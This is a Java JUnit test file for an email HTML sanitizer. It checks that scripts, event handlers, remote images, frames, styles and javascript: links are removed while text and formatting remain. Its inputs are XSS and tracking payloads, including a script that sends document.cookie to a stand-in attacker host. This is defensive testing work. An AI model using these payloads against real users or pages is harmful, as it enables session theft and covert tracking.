package org.sceau.openpgp.mail;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile HTML made harmless: nothing that runs or loads survives, the text does. */
class HtmlContentTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>fetch('https://evil.example/'+document.cookie)</script>",
        "<img src=\"https://evil.example/pixel.gif\">",
        "<img src=\"//evil.example/pixel.gif\">",
        "<img srcset=\"https://evil.example/a.png 1x\">",
        "<img src=x onerror=\"alert(1)\">",
        "<div onclick=\"alert(1)\">x</div>",
        "<body onload=\"alert(1)\">",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example/\"><input name=p></form>",
        "<link rel=stylesheet href=\"https://evil.example/s.css\">",
        "<style>@import url(https://evil.example/s.css); body{background:url(https://evil.example/b)}</style>",
        "<div style=\"background-image: url('https://evil.example/b.png')\">x</div>",
        "<div style=\"background: u\\72l(https://evil.example/b.png)\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<table background=\"https://evil.example/t.png\"><tr><td>x</td></tr></table>",
        "<video poster=\"https://evil.example/p.png\" src=\"https://evil.example/v.mp4\"></video>",
        "<audio src=\"https://evil.example/a.mp3\"></audio>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<svg><image href=\"https://evil.example/i.png\"/></svg>",
        "<math><mi xlink:href=\"https://evil.example/\">x</mi></math>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<scr<script>ipt>alert(1)</script>",
      })
  void nothingThatRunsOrLoadsSurvives(String hostile) {
    HtmlContent.Sanitized s = HtmlContent.sanitize("<p>keep me</p>" + hostile);
    String h = s.html().toLowerCase(Locale.ROOT);
    assertTrue(h.contains("keep me"), h);
    assertTrue(s.remoteContentRemoved() || !hostile.contains("evil"), h);
    for (String bad :
        new String[] {
          "<script",
          "onerror",
          "onclick",
          "onload",
          "<iframe",
          "<object",
          "<embed",
          "<form",
          "<input",
          "<link",
          "<style",
          "url(",
          "expression",
          "evil.example/p",
          "evil.example/b",
          "pixel",
          "javascript:",
          "<meta",
          "<base",
          "<svg",
          "<video",
          "<audio",
          "srcset",
          "data:"
        }) {
      assertFalse(h.contains(bad), bad + " in " + h);
    }
  }

  @Test
  void inlineImagesFormattingAndLinksStay() {
    HtmlContent.Sanitized s =
        HtmlContent.sanitize(
            "<p style=\"color: red; font-weight: bold\">Hi <b>Bob</b></p>"
                + "<img src=\"cid:logo@example.org\" alt=\"logo\">"
                + "<a href=\"https://example.org/doc\">doc</a>"
                + "<table><tr><td bgcolor=\"#eee\">cell</td></tr></table>");
    assertFalse(s.remoteContentRemoved());
    String h = s.html();
    assertTrue(h.contains("style=\"color: red; font-weight: bold\""), h);
    assertTrue(h.contains("<img src=\"cid:logo@example.org\" alt=\"logo\">"), h);
    assertTrue(
        h.contains("<a href=\"https://example.org/doc\" rel=\"noopener noreferrer\">doc</a>"), h);
    assertTrue(h.contains("bgcolor=\"#eee\""), h);
  }

  @Test
  void textKeepsParagraphsListsAndLinkTargets() {
    assertEquals(
        "Title\n\nHello Bob\n\n- one\n- two\nline1\nline2\nsee doc <https://example.org/d>\n",
        HtmlContent.toText(
            "<h1>Title</h1><p>Hello   <b>Bob</b></p><ul><li>one</li><li>two</li></ul>"
                + "line1<br>line2<br><script>x()</script>"
                + "see <a href=\"https://example.org/d\">doc</a>"));
    assertEquals("  keep\n    indent\n", HtmlContent.toText("<pre>  keep\n    indent</pre>"));
  }
}
